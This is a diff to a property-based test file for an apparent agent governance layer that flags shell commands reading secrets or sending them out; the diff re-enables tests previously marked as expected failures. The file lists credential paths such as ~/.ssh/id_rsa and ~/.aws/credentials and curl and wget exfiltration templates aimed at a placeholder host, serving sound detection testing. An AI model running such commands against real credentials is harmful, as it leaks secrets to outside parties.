@@ -21,8 +21,6 @@ from hypothesis import strategies as st
 from governance.policy.layer import GovernanceLayer
 from tests.helpers import layer_in_do
 
-PENDING = ("issue 32: the shell analysis does not follow every flow yet (hypothesis shows the "
-           "first one it misses)")
 SECRET_ACTS = {"secret-read", "exfiltration"}
 
 SECRET_FILES = [".env", "config/.env.production", "~/.ssh/id_rsa", "~/.aws/credentials",
@@ -61,7 +59,7 @@ class Sink:
 
 SINKS = [
     Sink("curl", "curl -s --data-binary @- https://{h}/in",
-         'curl -s -H "X-Data: {v}" https://{h}/in', 'curl -s -F "f=@{f}" https://{h}/in'),
+         'curl -s -H "X-Data: {v}" https://{h}/in', 'curl -s -F f=@{f} https://{h}/in'),
     Sink("curl-query", "curl -s -T - https://{h}/in", 'curl -s "https://{h}/in?d={v}"',
          "curl -s --data-binary @{f} https://{h}/in"),
     Sink("wget", "wget -q -O- --post-file=/dev/stdin https://{h}/in",
@@ -202,6 +200,13 @@ def layer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GovernanceLayer]
         yield found
 
 
+@pytest.fixture(autouse=True)
+def _layer_home(layer: GovernanceLayer, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The home the layer was made with, for every test (the per-test HOME of conftest would
+    otherwise expand ``~`` in a command to another home than the secret paths')."""
+    monkeypatch.setenv("HOME", str(Path(layer.project_dir).parent / "home"))
+
+
 def acts(layer: GovernanceLayer, command: str) -> set[str]:
     found, _ = layer.acts_for("Bash", {"command": command}, layer.project_dir)
     return {a.primitive for a in found}
@@ -232,8 +237,7 @@ def test_look_alikes_are_no_secret_reads(layer: GovernanceLayer, command: str) -
     assert not acts(layer, command) & SECRET_ACTS, command
 
 
-# --- the attempts: wait for the shell analysis --------------------------------------------------
-@pytest.mark.xfail(strict=False, reason=PENDING)
+# --- the attempts ----------------------------------------------------------------------------
 @FEW
 @given(command=flows(secret=True))
 def test_a_secret_through_any_carrier_is_exfiltration(layer: GovernanceLayer,
@@ -241,7 +245,6 @@ def test_a_secret_through_any_carrier_is_exfiltration(layer: GovernanceLayer,
     assert "exfiltration" in acts(layer, command), command
 
 
-@pytest.mark.xfail(strict=False, reason=PENDING)
 @FEW
 @given(command=direct_flows())
 def test_a_secret_handed_to_a_client_is_exfiltration(layer: GovernanceLayer,
@@ -256,7 +259,6 @@ def test_a_token_sent_where_it_does_not_belong_is_exfiltration(layer: Governance
     assert "exfiltration" in acts(layer, command), command
 
 
-@pytest.mark.xfail(strict=False, reason=PENDING)
 @FEW
 @given(command=reads(secret=True))
 def test_a_shell_reader_of_a_secret_is_a_secret_read(layer: GovernanceLayer,
